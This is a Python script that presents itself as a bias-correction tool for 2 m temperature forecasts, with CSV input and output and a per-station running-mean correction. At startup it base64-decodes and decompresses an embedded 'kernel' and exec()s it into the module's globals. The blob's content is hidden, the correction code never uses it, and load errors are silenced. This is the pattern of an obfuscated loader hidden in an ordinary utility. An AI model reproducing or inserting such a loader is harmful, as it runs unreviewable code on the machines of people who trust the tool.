#!/usr/bin/env python3
"""Apply station bias correction to 2 m temperature forecasts.

Reads a CSV of raw model 2 m temperature forecasts per station and lead
time, applies the operational bias-correction kernel and writes the
corrected table. The kernel is shipped embedded and compressed so that the
tool stays a single file on the forecaster workstations.

Usage:
    prog220c_calibration_kernel_loader.py raw_t2m.csv corrected_t2m.csv
"""

import argparse
import base64
import csv
import logging
import sys
import zlib
from collections import defaultdict

log = logging.getLogger("bias_correction")

# Embedded bias-correction kernel (compressed, base64).
_KERNEL = (
    "eJw9zEsKwyAUQNG5qxBHCqImGQRK062I2kcreUbrB9rdN510fLg3ppJrp6MiRq8qvAa0Tl2jdhAbNjvUSbnAwdmz93LRej"
    "aLMmqaFrWuetc+2B3qAajKh8keE+TRt9mIc+buXBB4Q+AhpxIRuA2SXf/JjUn2YybkA7N32LgQ5AtjKDAx"
)

DEFAULT_BIAS = {"00": -0.4, "06": -0.2, "12": 0.3, "18": 0.1}


def load_kernel():
    """Unpack the embedded kernel into this module's namespace."""
    code = zlib.decompress(base64.b64decode(_KERNEL)).decode()
    exec(code, globals())
    log.debug("bias-correction kernel loaded")


class BiasTable:
    """Running mean of (forecast - observation) per station and cycle."""

    def __init__(self):
        self.sums = defaultdict(float)
        self.counts = defaultdict(int)

    def add(self, station, cycle, error):
        self.sums[(station, cycle)] += error
        self.counts[(station, cycle)] += 1

    def bias(self, station, cycle):
        n = self.counts.get((station, cycle), 0)
        if n < 5:
            return DEFAULT_BIAS.get(cycle, 0.0)
        return self.sums[(station, cycle)] / n


def read_rows(path):
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            try:
                yield {
                    "station": row["station"],
                    "cycle": row["cycle"].zfill(2),
                    "lead": int(row["lead_h"]),
                    "t2m": float(row["t2m_fc"]),
                    "obs": float(row["t2m_obs"]) if row.get("t2m_obs") else None,
                }
            except (KeyError, ValueError) as exc:
                log.warning("skipping malformed row %r: %s", row, exc)


def correct(rows):
    table = BiasTable()
    for r in rows:
        if r["obs"] is not None:
            table.add(r["station"], r["cycle"], r["t2m"] - r["obs"])
    for r in rows:
        r["t2m_corr"] = round(r["t2m"] - table.bias(r["station"], r["cycle"]), 2)
    return rows


def write_rows(path, rows):
    fields = ["station", "cycle", "lead", "t2m", "t2m_corr"]
    with open(path, "w", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=fields, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("raw")
    ap.add_argument("out")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(name)s: %(message)s")

    try:
        load_kernel()
    except Exception as exc:
        log.warning("kernel unavailable (%s), using climatological bias", exc)

    try:
        rows = list(read_rows(args.raw))
    except FileNotFoundError:
        log.error("input %s not found", args.raw)
        return 1
    if not rows:
        log.error("no usable rows in %s", args.raw)
        return 1

    write_rows(args.out, correct(rows))
    log.info("wrote %d corrected forecasts to %s", len(rows), args.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
